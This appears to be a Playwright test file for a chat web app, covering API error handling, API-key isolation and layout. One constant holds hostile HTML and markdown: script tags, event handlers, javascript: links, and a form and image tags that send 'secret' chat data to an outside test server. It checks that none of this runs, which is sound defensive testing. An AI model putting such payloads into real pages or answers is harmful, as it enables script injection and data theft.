    source = "def f(x):\n    if x:\n        return {\n            'a': x,\n        }\n\n    return None"
    text = f"Here:\n\n```python\n{source}\n```\n\nDone."
    stage.plays(play.answer(*(text[at : at + 3] for at in range(0, len(text), 3))))
    send(chat, "Code, please")
    expect(answers(chat)).to_contain_text("Done.")
    assert answers(chat).locator("pre code").inner_text().rstrip("\n") == source
    send(chat, "Thanks")
    assert stage.last_messages[1] == assistant(text)


# --- failures ---------------------------------------------------------------------------------------------------------

HALF = "Half of it"


def refusal(words: str) -> Script:
    async def script(exchange: Exchange) -> None:
        await exchange.start()
        await exchange.event(play.chunk(refusal=words))
        await exchange.event(play.chunk(finish="stop"))
        await exchange.event("[DONE]")
        await exchange.end()

    return script


# What the server does, the title of the note, and the text that stays.
FAILURES: dict[str, tuple[Script, str, str]] = {
    "401": (
        play.error(401, f"Incorrect API key provided: {OWNER_KEY}.", "invalid_api_key"),
        "error.key_refused.title",
        "",
    ),
    "403": (play.error(403, f"Key {OWNER_KEY} may not."), "error.access_denied.title", ""),
    "404 model": (
        play.error(404, "The model `scripted-1` does not exist.", "model_not_found"),
        "error.model_not_found.title",
        "",
    ),
    "429 rate": (
        play.error(429, "Slow down.", "rate_limit_exceeded", retry_after="45"),
        "error.rate_limited.title",
        "",
    ),
    "429 quota": (play.error(429, "Pay first.", "insufficient_quota"), "error.quota_exceeded.title", ""),
    "500": (play.error(500, "Oops."), "error.server_failed.title", ""),
    "nothing comes": (play.hold_after(), "error.timed_out.title", ""),
    "silence": (play.hold_after(HALF), "error.timed_out.title", HALF),
    "cut": (play.cut_after(HALF), "error.stream_cut.title", HALF),
    "web page": (
        play.reply(200, "<html><h1>Welcome</h1></html>", "text/html"),
        "error.not_chat_completions.title",
        "",
    ),
    "empty": (play.answer(), "error.empty_answer.title", ""),
    "parameter": (
        play.error(400, "Unsupported value: 'stream' does not support true.", "unsupported_value", "stream"),
        "error.parameter_refused.title",
        "",
    ),
    "length": (play.answer(HALF, finish="length"), "note.length.title", HALF),
    "content filter": (play.answer(HALF, finish="content_filter"), "note.content_filter.title", HALF),
    "refusal": (refusal("I will not."), "note.refusal.title", ""),
}
# The clocks of those that only a clock ends. However slow the machine: that nothing comes is always too late, and what
# comes before the silence has all the time that it needs.
HASTY = {
    "nothing comes": Clocks(first_token=0.5, patient_first_token=0.5),
    "silence": Clocks(silence=0.5),
}


# That each title has both languages is held by tests/test_notes.py; here every other one is seen in Korean.
@pytest.mark.parametrize(
    ("failure", "language"), [(failure, LANGUAGES[place % 2]) for place, failure in enumerate(FAILURES)]
)
def test_a_failure_is_told_and_the_next_message_works(
    lasting_pages: dict[Language, Page], stage: Stage, failure: str, language: Language
) -> None:
    page = lasting_pages[language]
    script, title, kept = FAILURES[failure]
    stage.plays(script)
    begin_anew(page)
    with stage.hurried(HASTY.get(failure, CALM)):
        send(page, "Question")
    expect(note(page, t(language, title))).to_be_visible()
    expect(questions(page)).to_have_text("Question")
    expect(answers(page)).to_have_text([kept] if kept else [])
    expect(option(page, t(language, "action.retry"))).to_be_visible()
    expect(page.locator(".toast-body.error")).to_have_count(0)
    stage.server.script = play.answer("Fine", ".")
    send(page, "Next")
    expect(answers(page).last).to_have_text("Fine.")
    told = [user("Question"), assistant(kept)] if kept else []
    assert stage.last_messages == [*told, user("Next")]
    content = page.content()
    assert OWNER_KEY not in content
    assert OWNER_KEY[-6:] not in content


def test_a_refused_parameter_is_left_out_and_that_is_told(lasting_pages: dict[Language, Page], stage: Stage) -> None:
    page = lasting_pages["ko"]
    no_options = play.error(400, "Unsupported parameter: 'stream_options' is not supported.", "unsupported_parameter")
    stage.plays(play.in_turn(no_options, play.answer("Fine", ".")))
    begin_anew(page)
    send(page, "Question")
    expect(answers(page)).to_have_text("Fine.")
    told = note(page, t("ko", "note.adjusted.title"))
    told.locator(".title").click()
    expect(told).to_contain_text("stream_options")
    first, second = stage.bodies
    assert first.pop("stream_options") == {"include_usage": True}
    assert second == first


def test_a_refused_connection_is_told_and_the_owners_takes_over(
    lasting_pages: dict[Language, Page], stage: Stage
) -> None:
    page = lasting_pages["ko"]
    stage.plays(play.answer("Fine", "."))
    begin_anew(page)
    with ScriptedServer() as gone:
        connect(page, VISITOR_KEY, gone.base_url)
        expect(page.locator("#top-connection")).to_contain_text(str(gone.port))
    send(page, "Question")
    expect(note(page, t("ko", "error.unreachable.title"))).to_be_visible()
    assert stage.bodies == []
    # A server that is not there is not taken into use.
    connect_button(page).click()
    expect(toast(page).last).to_contain_text(t("ko", "error.unreachable.title"))
    page.locator("#forget").click()
    expect(page.locator("#top-connection")).to_contain_text(str(stage.server.port))
    send(page, "Next")
    expect(answers(page)).to_have_text("Fine.")
    assert stage.last_messages == [user("Next")]


# --- keys, hostile answers, look --------------------------------------------------------------------------------------


def test_a_typed_key_serves_its_visitor_alone_and_is_forgotten(fresh: Page, stage: Stage, browser: Browser) -> None:
    with ScriptedServer(play.answer("From the other server.")) as other:
        other.models = [{"id": "other-1", "object": "model"}]
        connect(fresh, VISITOR_KEY, other.base_url)
        expect(fresh.locator("#model input")).to_have_value("other-1")
        expect(fresh.locator("#top-connection")).to_contain_text(str(other.port))
        send(fresh, "Mine")
        expect(answers(fresh)).to_have_text("From the other server.")
        assert {exchange.headers["authorization"] for exchange in other.all_requests} == {f"Bearer {VISITOR_KEY}"}
        assert stage.bodies == []

        stranger = browser.new_page(locale="en-US")
        visit(stranger, stage.address)
        send(stranger, "Not mine")
        expect(answers(stranger)).to_have_text(ANSWER)
        stranger.close()
        assert [exchange.headers["authorization"] for exchange in stage.server.requests] == [f"Bearer {OWNER_KEY}"]
        assert len(other.requests) == 1

        inspect(fresh)
        shown = shown_code(fresh, "inspect-curl") + shown_code(fresh, "inspect-python")
        stored = fresh.evaluate("JSON.stringify([localStorage, sessionStorage, document.cookie, location.href])")
        values = fresh.evaluate("[...document.querySelectorAll('input, textarea')].map((field) => field.value).join()")
        for key in (VISITOR_KEY, OWNER_KEY):
            assert key not in fresh.content() + shown + stored + values
        fresh.get_by_role("tab").first.click()

        fresh.locator("#own-connection > button").click()
        fresh.locator("#forget").click()
        expect(fresh.locator("#model input")).to_have_value("scripted-1")
        expect(fresh.locator("#forget")).to_be_hidden()
        send(fresh, "Again")
        assert len(other.requests) == 1
        assert stage.server.requests[-1].headers["authorization"] == f"Bearer {OWNER_KEY}"


def test_a_server_that_answers_after_another_choice_is_not_connected(
    fresh: Page, stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked, let_go, answered = threading.Event(), threading.Event(), threading.Event()
    real = discovery.list_models

    async def slowly(connection: Connection) -> Any:
        if connection.api_key == "sk-slow-1234567890abcdef":
            asked.set()
            await asyncio.to_thread(let_go.wait, PATIENCE_MS / 1000)
            answered.set()
        return await real(connection)

    monkeypatch.setattr(discovery, "list_models", slowly)
    connect(fresh, VISITOR_KEY, stage.server.base_url)
    chip = fresh.locator("#top-connection")
    button = connect_button(fresh)
    fresh.locator("#api-key input").fill("sk-slow-1234567890abcdef")
    button.click()
    assert asked.wait(PATIENCE_MS / 1000)
    fresh.locator("#forget").click()
    expect(chip).to_contain_text("owner")
    before = chip.inner_text()
    let_go.set()
    assert answered.wait(PATIENCE_MS / 1000)
    send(fresh, "Hello")
    expect(chip).to_have_text(before)
    assert stage.server.requests[-1].headers["authorization"] == f"Bearer {OWNER_KEY}"


def test_a_key_that_no_key_can_be_is_refused_in_words(fresh: Page, stage: Stage) -> None:
    fresh.locator("#own-connection > button").click()
    fresh.locator("#api-key input").fill("sk with blanks")
    fresh.locator("#connect").click()
    expect(toast(fresh)).to_contain_text(t("en", "error.bad_connection.key_characters"))
    expect(fresh.locator("#forget")).to_be_hidden()
    send(fresh, "Still the owner's")
    assert stage.server.requests[0].headers["authorization"] == f"Bearer {OWNER_KEY}"


HOSTILE = """Look:

<script>window.pwned = "script"</script>
<img src="{elsewhere}/image.png?chat=secret" onerror="window.pwned = 'onerror'">
<svg onload="window.pwned = 'onload'"><image href="{elsewhere}/svg.png"/></svg>
<video src="{elsewhere}/film.mp4" poster="{elsewhere}/poster.png" autoplay></video>
<iframe src="{elsewhere}/frame.html"></iframe>
<link rel="stylesheet" href="{elsewhere}/style.css"><style>body {{ background: url({elsewhere}/css.png) }}</style>
<form action="{elsewhere}/form" method="post"><input name="chat" value="secret"><button id="bait">Win</button></form>

![picture]({elsewhere}/markdown.png) ![reference][ref] [click](javascript:window.pwned='link')
<a id="lure" href="javascript:window.pwned='anchor'">more</a>

[ref]: {elsewhere}/reference.png

The end.
"""


def test_a_hostile_answer_runs_nothing_and_reaches_nobody(fresh: Page, stage: Stage) -> None:
    dialogs: list[str] = []

    def refuse(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    with ScriptedServer() as elsewhere, hearing(fresh, "dialog", refuse):
        stage.plays(play.answer(HOSTILE.format(elsewhere=f"http://127.0.0.1:{elsewhere.port}")))
        send(fresh, "Surprise me")
        expect(answers(fresh).last).to_contain_text("The end.")
        for link in answers(fresh).locator("a, button").all():
            address = link.get_attribute("href") or ""
            assert not address.lower().startswith(("javascript:", "data:"))
        begin_anew(fresh)
        send(fresh, "Still here?")
        # Submitting whatever form is left comes last: Playwright waits for the page that it would lead to.
        fresh.evaluate("document.querySelectorAll('#chatbot form').forEach((form) => form.submit())")
        fresh.evaluate("async () => (await fetch('/config')).status")
        assert [exchange.path for exchange in elsewhere.all_requests] == []
    assert fresh.evaluate("window.pwned") is None
    assert dialogs == []
    assert fresh.url.startswith(stage.address)


LONG = (
    "word " * 60
    + "\n\n```\n"
    + "x = "
    + "1 + " * 80
    + "1\n```\n\n"
    + "unbroken" * 60
    + "\n\n| a | b |\n|---|---|\n"
    + ("| " + "cell" * 40 + " | " + "cell" * 40 + " |\n")
)


@pytest.mark.parametrize(("width", "theme"), [(390, "dark"), (1440, "light"), (390, "light"), (1440, "dark")])
def test_nothing_runs_over_the_edge_of_the_window(page: Page, stage: Stage, width: int, theme: str) -> None:
    phone = width < 768
    stage.plays(play.answer(LONG))
    errors: list[str] = []
    page.set_viewport_size({"width": width, "height": 844})
    with hearing(page.context, "weberror", lambda error: errors.append(str(error.error))):
        visit(page, f"{stage.address}?__theme={theme}")
        if phone:
            page.wait_for_selector("html.sidebar-ready")
        expect(page.locator(".sidebar.open")).to_have_count(0 if phone else 1)
        attach(page, picture_file())
        send(page, "long " * 50 + "unbroken" * 30)
        expect(answers(page).last).to_contain_text("cell")
        fits(page)
        place = page.locator("#message-box").bounding_box()
        assert place is not None
        assert place["x"] >= 0
        assert place["x"] + place["width"] <= width
        assert place["y"] + place["height"] <= 844
        for name in ("describe", "extract", "usage", "inspect"):
            if phone and not tab(page, name).is_visible():
                continue
            tab(page, name).click()
            fits(page)
        edge = Image.open(io.BytesIO(page.screenshot())).convert("L").crop((width - 3, 600, width - 2, 601))
        assert (edge.tobytes()[0] > 127) is (theme == "light")
    assert errors == []


def test_a_draft_outlives_a_cancelled_edit_and_an_undo(chat: Page, stage: Stage) -> None:
    stage.plays(play.answer("Fine."))
    send(chat, "First question")
    box(chat).fill("my draft")
    pencils(chat).first.click()
    expect(box(chat)).to_have_value("First question")
    expect(box(chat)).to_be_focused()
    chat.locator("#cancel-edit").click()
    expect(box(chat)).to_have_value("my draft")
    pencils(chat).last.click()
    expect(chat.locator("#answer-text textarea")).to_be_focused()
    chat.locator("#answer-editor button").last.click()
    expect(chat.locator("#answer-editor")).to_have_count(0)
    expect(box(chat)).to_have_value("my draft")
    under(chat, "Undo").click()
    expect(box(chat)).to_have_value("First question\n\nmy draft")
    expect(chat.locator("#meter")).to_contain_text("history 0")
